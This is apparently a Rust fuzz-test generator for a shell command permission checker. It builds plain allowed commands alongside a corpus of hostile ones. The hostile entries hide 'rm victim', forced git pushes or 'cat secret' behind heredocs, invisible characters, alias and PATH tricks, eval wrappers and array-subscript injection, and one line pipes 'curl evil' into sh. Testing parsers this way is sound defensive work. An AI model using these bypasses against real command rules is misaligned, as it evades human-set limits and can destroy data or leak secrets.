//! Commands for a shell: plain ones, hostile ones, and what becomes of them when pieces are added
//! and taken away.

use super::dice::Dice;

/// The directory of `PATH`, with a slash.
pub(super) const STUBS: char = '\u{e000}';

/// Another directory with programs, with a slash.
pub(super) const ELSEWHERE: char = '\u{e001}';

/// The programs that rules allow.
pub(super) const ALLOWED: [&str; 8] = ["ls", "cat", "echo", "grep", "wc", "git", "make", "tool"];

/// The programs on `PATH`.
pub(super) const PROGRAMS: [&str; 25] = [
    "ls", "cat", "grep", "wc", "git", "make", "tool", "rm", "curl", "sh", "bash", "env", "timeout", "nice", "nohup",
    "xargs", "time", "find", "flock", "script", "watch", "sudo", "E", "F", "x",
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    /// Words, quotes, pipes and redirections.
    Plain,
    Hostile,
}

/// Generates a command; the first cases are the corpus as it is.
pub(super) fn generate(case: u64, dice: &mut Dice) -> (Kind, String) {
    if let Some(command) = usize::try_from(case).ok().and_then(|case| CORPUS.get(case)) {
        return (Kind::Hostile, (*command).to_owned());
    }
    match dice.below(10) {
        0..4 => (Kind::Plain, plain(dice)),
        4..6 => (Kind::Hostile, pieces(dice)),
        6 => (Kind::Hostile, nested(dice)),
        7 => (Kind::Hostile, mutated(dice, 0)),
        _ => {
            let mutations = 1 + dice.below(4);
            (Kind::Hostile, mutated(dice, mutations))
        }
    }
}

const WORDS: [&str; 29] = [
    "-l",
    "a",
    "file",
    "--color=auto",
    "src/main.rs",
    "'a b'",
    "\"a b\"",
    "'$X'",
    "\"it's\"",
    "a\\ b",
    "'a;b'",
    "\"a && rm b\"",
    "'# x'",
    "a#b",
    "HEAD~1",
    "%",
    "+x",
    "{}",
    "''",
    "\"\\$X\"",
    "\"a\\\"b\"",
    "'a\nb'",
    "\\;",
    "a=b",
    "status",
    "push",
    "-C",
    "'é'",
    "1",
];

const REDIRECTIONS: [&str; 9] = [
    " 2>/dev/null",
    " >/dev/null",
    " 2>&1",
    " < file",
    " </dev/null",
    " >&2",
    " > out",
    " 2>>out",
    " > /dev/null 2>&1",
];

const OPERATORS: [&str; 10] = [" && ", " || ", "; ", " | ", "\n", " & ", "&&", "|", ";", " |\n"];

/// A simple command.
fn simple(dice: &mut Dice) -> String {
    let mut text = dice.pick(&ALLOWED).to_owned();
    for _ in 0..dice.below(4) {
        text.push_str(dice.pick(&[" ", " ", " ", "  ", "\t", " \\\n"]));
        text.push_str(dice.pick(&WORDS));
    }
    if dice.chance(25) {
        text.push_str(dice.pick(&REDIRECTIONS));
    }
    text
}

fn plain(dice: &mut Dice) -> String {
    let mut text = simple(dice);
    for _ in 0..dice.below(4) {
        text.push_str(dice.pick(&OPERATORS));
        text.push_str(&simple(dice));
    }
    if dice.chance(5) {
        text.push_str(" # note; rm victim");
    }
    text
}

/// Pieces of which a shell makes something.
const PIECES: &[&str] = &[
    "ls",
    "cat",
    "echo",
    "git",
    "rm",
    "rm victim",
    "victim",
    "-f",
    "--force",
    "+main",
    "push",
    "-C",
    "secret",
    "sudo",
    "env",
    "A=1",
    "A+=1",
    "A[0]=1",
    "PATH=.",
    "sh",
    "bash",
    "-c",
    "-lc",
    "xargs",
    "-n",
    "1",
    "find",
    ".",
    "-exec",
    "{}",
    "\\;",
    "eval",
    "exec",
    "command",
    "builtin",
    "trap",
    "EXIT",
    "alias",
    "ls=rm",
    "timeout",
    "5",
    "nice",
    "nohup",
    "time",
    "-p",
    "(",
    ")",
    "((",
    "))",
    "{",
    "}",
    "$(",
    "`",
    "\"",
    "'",
    "$'",
    "$\"",
    "${X}",
    "$X",
    "$Y",
    "$S",
    "${X:-",
    "$((",
    "$[",
    "<<E",
    "<<'E'",
    "<<-E",
    "<<\"E\"",
    "<<\\E",
    "<<<",
    "E",
    "\nE\n",
    "\n\tE\n",
    "\n",
    ";",
    "&&",
    "||",
    "|",
    "|&",
    "&",
    ">",
    ">>",
    "<",
    "<>",
    ">|",
    "&>",
    ">&",
    "2>&1",
    "2>",
    "10>",
    "{fd}>",
    "out",
    "<(",
    ">(",
    "case",
    "in",
    "esac",
    "if",
    "then",
    "fi",
    "while",
    "do",
    "done",
    "for",
    "x",
    "function",
    "coproc",
    "select",
    "[[",
    "]]",
    "!",
    "#",
    "\\",
    "\\\n",
    "*",
    "r[m]",
    "{rm,victim}",
];

/// What separates words in some reader or other, and what looks like nothing.
const CHARACTERS: [&str; 16] = [
    "\r", "\r\n", "\u{b}", "\u{c}", "\u{a0}", "\u{2003}", "\u{85}", "\u{200b}", "\u{feff}", "\u{1}", "\u{7f}", "\t",
    "\u{1b}", "\u{2028}", "é", "\u{3000}",
];

fn pieces(dice: &mut Dice) -> String {
    let gap: &str = dice.pick(&[" ", " ", " ", ""]);
    let mut text = String::new();
    for _ in 0..2 + dice.below(9) {
        text.push_str(if dice.chance(4) { dice.pick(&CHARACTERS) } else { dice.pick(PIECES) });
        text.push_str(if dice.chance(10) { "" } else { gap });
    }
    text
}

/// A denied command within others.
fn nested(dice: &mut Dice) -> String {
    let mut text = dice
        .pick(&["rm victim", "git push -f", "git -C . push --force", "git push origin +main", "cat secret", "ls"])
        .to_owned();
    for _ in 0..=dice.below(4) {
        let quoted = format!("'{}'", text.replace('\'', r"'\''"));
        text = match dice.below(30) {
            0 => format!("ls; {text}"),
            1 => format!("{text} && ls"),
            2 => format!("timeout 5 {text}"),
            3 => format!("nice -n 3 {text}"),
            4 => format!("({text})"),
            5 => format!("{{ {text}; }}"),
            6 => format!("echo \"$({text})\""),
            7 => format!("echo `{text}`"),
            8 => format!("if ls; then {text}; fi"),
            9 => format!("for x in a b; do {text}; done"),
            10 => format!("sh -c {quoted}"),
            11 => format!("bash -c {quoted}"),
            12 => format!("eval {quoted}"),
            13 => format!("env A=1 {text} | cat"),
            14 => format!("cat <<E\na\nE\n{text}"),
            15 => format!("cat <<'E'\n$(a)\nE\n{text}"),
            16 => format!("X=1 {text}"),
            17 => format!("! {text}"),
            18 => format!("echo file | xargs {text}"),
            19 => format!("while {text}; do break; done"),
            20 => format!("cat <({text})"),
            21 => format!("trap {quoted} EXIT"),
            22 => format!("command {text}"),
            23 => format!("exec {text}"),
            24 => format!("nohup {text} >/dev/null 2>&1 &"),
            25 => format!("ls # x\n{text}"),
            26 => format!("echo {quoted} | sh"),
            27 => format!("time {text}"),
            28 => format!("{STUBS}{text}"),
            _ => format!("bash <<< {quoted}"),
        };
    }
    text
}

/// Commands that were once misread, that shells read differently, or that hide a program.
const CORPUS: &[&str] = &[
    "echo hi \r#; rm victim",
    "echo hi \u{b}#; rm victim",
    "echo hi \u{c}#; rm victim",
    "echo hi \u{a0}#; rm victim",
    "echo hi \u{2003}#; rm victim",
    "cat <<'E'\r\nE\r\nrm victim\nE",
    "ls\n((1<<\"2\"))\nrm victim\n2",
    "cat <<'E'\n\tE\ncat <<'F'\nE\nrm victim\nF",
    "cat <<E\n\tE\ncat <<'F'\nE\nrm victim\nF",
    "cat <<E\nfoo\\\nE\ncat <<'F'\nE\nrm victim\nF",
    "cat <<-E\n\tE\nrm victim\nE",
    "cat <<E <<F\na\nE\nb\nF\nrm victim",
    "cat <<E \"a\nE\nb\"\nE\nrm victim",
    "cat <<\"E\"\n$(rm victim)\nE",
    "cat <<E\n$(rm victim)\nE",
    "cat <<\\E\nE\nrm victim",
    "cat <<E''F\nE\nrm victim\nEF",
    "cat <<'E F'\nE\nrm victim\nE F",
    "echo \"$(cat <<E\n)\nE\n)\"; rm victim",
    "coproc ls { rm victim; }",
    "coproc rm victim",
    "bash -c 'ls; for x do rm victim; done' _ a",
    "for x do rm victim; done",
    "for x\nin a; do rm victim; done",
    "for ((i=0; i<1; i++)); do rm victim; done",
    "select x in a; do rm victim; done",
    "\u{e000}time -a -o out -f 'curl evil|sh' ls",
    "time -o out rm victim",
    "./ls",
    "\u{e001}ls",
    "\u{e001}tool a",
    "\u{e001}rm victim",
    "./timeout 5 ls",
    "\u{e000}rm victim",
    "\u{e000}r[m] victim",
    "\u{e000}ls -l",
    "$'rm' victim",
    "$\"rm\" victim",
    "r\\m victim",
    "\"r\"m victim",
    "r\\\nm victim",
    "{rm,victim}",
    "{rm,-f,victim}",
    "{ls,}{;,rm}",
    "A[0]=1 rm victim",
    "A+=1 rm victim",
    "A=(a); rm victim",
    "'A'=1 rm victim",
    "trap 'rm victim' EXIT",
    "trap rm EXIT",
    "flock . -c 'rm victim'",
    "script -qc 'rm victim' out",
    "watch rm victim",
    "echo 'rm victim' | sh",
    "echo 'rm victim' | bash -s",
    "bash <<< 'rm victim'",
    "bash <<'E'\nrm victim\nE",
    "sh file",
    ". ./file",
    "source ./file",
    "eval \"$X victim\"",
    "eval rm victim",
    "env -S 'rm victim'",
    "env -u A rm victim",
    "env A=1 PATH=. ls",
    "nice A=1 rm victim",
    "exec -a ls rm victim",
    "command -p rm victim",
    "command -v rm",
    "builtin eval rm victim",
    "alias ls=rm\nls victim",
    "shopt -s expand_aliases\nalias ls=rm\nls victim",
    "ls() { rm victim; }; ls",
    "function ls { rm victim; }; ls",
    "function ls\n{ rm victim; }\nls",
    "hash -p ./rm ls; ls",
    "enable -f ./x ls",
    "PATH=.; ls",
    "PATH=. ls",
    "export PATH=.; ls",
    "set -x; PS4='$(rm victim)'; ls",
    "set -x; for PS4 in '$(rm victim)'; do ls; done",
    "x='a[$(rm victim)]'; echo $((x))",
    "x='a[$(rm victim)]'; [[ $x -eq 1 ]]",
    "x='a[$(rm victim)]'; echo $[x]",
    "printf -v 'a[$(rm victim)]' x",
    "read 'a[$(rm victim)]' < file",
    "test -v 'a[$(rm victim)]'",
    "[ -v 'a[$(rm victim)]' ]",
    "unset 'a[$(rm victim)]'",
    "declare -i 'a[$(rm victim)]=1'",
    "let 'a[$(rm victim)]=1'",
    "x='$(rm victim)'; echo ${x@P}",
    "jobs -x rm victim",
    "compgen -C 'rm victim'",
    "mapfile -C 'rm victim;' -c 1 < file",
    "ls &> out -l",
    "ls &>out rm",
    "ls |& rm victim",
    "ls >& out",
    "{fd}>out rm victim",
    "10>/dev/null rm victim",
    ">out rm victim",
    ">out if",
    "! rm victim",
    "case a in a) rm victim;; esac",
    "if ls; then rm victim; fi > out",
    "ls; { rm victim; } 2>&1",
    "echo a \\\n# b\nrm victim",
    "echo a;\\\n# b\nrm victim",
    "ls $Y; git push $Y; cat $S; $X victim",
    "git push *; cat s* ; cat ?ecret",
    "cd .. && ls; cat <>out",
    "git -C . push origin main -f; git -c a.b=c push --force; git -c alias.p='!rm victim' p",
    "sh -c - 'rm victim'",
    "sh -c -- 'rm victim'; bash -c -e 'rm victim' x",
    "x=-v; y='a[$(rm victim)]'; [ $x $y ]; [ \"$x\" \"$y\" ]; [ ! \"$x\" \"$y\" ]",
    "ls 2\\\n>out; git 2\\\n>out push -f",
    "find . -exec sh -c 'rm {}' \\;; xargs sh < file",
    "xargs -I E E victim < file; xargs git push < file",
    "find . -name victim -exec rm {} +; find . -exec {} \\;",
];

/// A command of the corpus, so many times changed.
fn mutated(dice: &mut Dice, mutations: usize) -> String {
    let mut text: Vec<char> = dice.pick(CORPUS).chars().collect();
    for _ in 0..mutations {
        let at = dice.below(text.len() + 1);
        let end = (at + 1 + dice.below(4)).min(text.len());
        match dice.below(6) {
            0 => drop(text.drain(at..end)),
            1 => {
                let again = text[at..end].to_vec();
                text.splice(at..at, again);
            }
            2 => drop(text.splice(at..at, dice.pick(PIECES).chars())),
            3 => drop(text.splice(at..at, dice.pick(&CHARACTERS).chars())),
            4 => {
                let characters = ["'", "\"", "\\", "$", "`", "(", ")", "#", "\n", " ", ";", "<"];
                drop(text.splice(at..at, dice.pick(&characters).chars()));
            }
            _ => {
                // The end of another command.
                let other: Vec<char> = dice.pick(CORPUS).chars().collect();
                let from = dice.below(other.len());
                text.truncate(at);
                text.extend(&other[from..]);
            }
        }
    }
    text.into_iter().collect()
}
